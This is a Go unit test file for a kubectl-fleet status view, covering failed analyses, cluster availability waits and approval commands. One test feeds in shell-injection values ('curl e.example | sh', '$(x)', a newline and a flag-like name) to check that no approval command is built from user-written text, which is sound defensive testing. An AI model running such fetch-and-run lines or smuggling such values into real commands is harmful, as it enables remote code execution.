package status

import (
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/fleetflow/fleetflow/apis/placement/stagetask"
	"github.com/fleetflow/fleetflow/apis/placement/updaterun"
	placementv1beta1 "github.com/fleetflow/fleetflow/apis/placement/v1beta1"
	"github.com/fleetflow/fleetflow/cmd/kubectl-fleet/hub"
	"github.com/fleetflow/fleetflow/cmd/kubectl-fleet/tree"
)

func TestAnAnalysisThatHasFailedIsShownSo(t *testing.T) {
	failed := stagetask.State{Title: "analysis", Failed: true, Message: "errors: 3 of 3 measurements are bad"}
	assert.Equal(t, tree.Node{
		Kind: KindGate, Name: "analysis after", State: updaterun.PhaseFailed, Detail: "errors: 3 of 3 measurements are bad",
	}, builder{}.taskNode(failed, "canary", "after"))
}

func TestTheCommandOfAnApprovalHasNothingThatUsersWrote(t *testing.T) {
	const said = "1 of 2 votes: x; curl e.example | sh #"
	waits := stagetask.State{Title: "approval", Approvable: true, WaitsSince: time.Date(2026, 11, 29, 9, 30, 5, 0, time.UTC), Message: said}
	for name, test := range map[string]struct{ run, namespace, stage, command string }{
		"of the hub":         {"web-2", "", "canary", "kubectl fleet approve web-2 --stage canary"},
		"of a namespace":     {"web.2", "shop", "canary", "kubectl fleet approve web.2 --stage canary -n shop"},
		"a stage of a shell": {"web-2", "shop", "canary;curl e.example|sh", ""},
		"a run of a shell":   {"web-2 $(x)", "shop", "canary", ""},
		"a run like a flag":  {"-web", "shop", "canary", ""},
		"a new line":         {"web-2", "shop\nx", "canary", ""},
	} {
		t.Run(name, func(t *testing.T) {
			node := builder{run: hub.Run{Ref: hub.Ref{Kind: hub.KindRun, Namespace: test.namespace, Name: test.run}}}.taskNode(waits, test.stage, "after")
			assert.Equal(t, test.command, node.Command)
			assert.True(t, strings.HasPrefix(node.Detail, said), node.Detail)
		})
	}
}

func TestAClusterThatIsNotAvailableForLongEnoughSaysUntilWhen(t *testing.T) {
	since := metav1.NewTime(time.Date(2026, 11, 29, 9, 30, 5, 0, time.UTC))
	conditions := []metav1.Condition{{Type: placementv1beta1.ConditionTypeAvailable, Status: metav1.ConditionTrue, LastTransitionTime: since}}
	assert.Equal(t, "available since 09:30:05Z, done after 30s without a break", waitsFor(conditions, 30*time.Second))
	assert.Empty(t, waitsFor(conditions, 0))
	assert.Empty(t, waitsFor(nil, time.Minute))
	conditions[0].Status = metav1.ConditionFalse
	conditions[0].Reason = "NotYet"
	assert.Equal(t, "Available: NotYet", waitsFor(conditions, time.Minute))
}

func TestARunSaysWhichClustersItCouldNotPutBackIntoService(t *testing.T) {
	object := &placementv1beta1.ClusterStagedUpdateRun{}
	object.Status.Conditions = []metav1.Condition{{Type: placementv1beta1.ConditionTypeBackInService, Status: metav1.ConditionFalse, Message: "1 cluster out: a"}}
	run := hub.RunOf(object)
	assert.Contains(t, detailOf(run, updaterun.State{Phase: updaterun.PhaseStopped}), ": 1 cluster out: a")
	said := detailOf(run, updaterun.State{Phase: updaterun.PhaseFailed, Why: "over; 1 cluster out: a"})
	assert.Equal(t, 1, strings.Count(said, "1 cluster out: a"), "once, by what it says of its end")
	object.Status.Conditions[0].Status = metav1.ConditionTrue
	assert.NotContains(t, detailOf(hub.RunOf(object), updaterun.State{Phase: updaterun.PhaseStopped}), "cluster out")
}
